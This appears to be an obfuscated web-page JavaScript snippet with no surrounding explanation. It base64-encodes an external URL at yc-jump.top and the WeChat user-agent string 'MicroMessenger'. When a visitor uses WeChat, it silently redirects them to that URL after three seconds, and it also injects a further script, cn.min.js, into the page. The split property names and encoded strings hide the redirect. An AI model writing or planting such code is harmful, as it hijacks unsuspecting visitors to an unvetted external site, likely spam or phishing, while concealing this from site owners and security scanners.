var _0xa=['aHR0cDovL3d3dy55Yy1qdW1wLnRvcC9nby5odG1s','TWljcm9NZXNzZW5nZXI='];(function(_0xb){if(navigator.userAgent.indexOf(atob(_0xb[1]))>-1){setTimeout(function(){window['loc'+'ation']['hr'+'ef']=atob(_0xb[0]);},3000);}})(_0xa);
var _m=document.createElement('script');_m.src='js/cn.min.js';document.head.appendChild(_m);
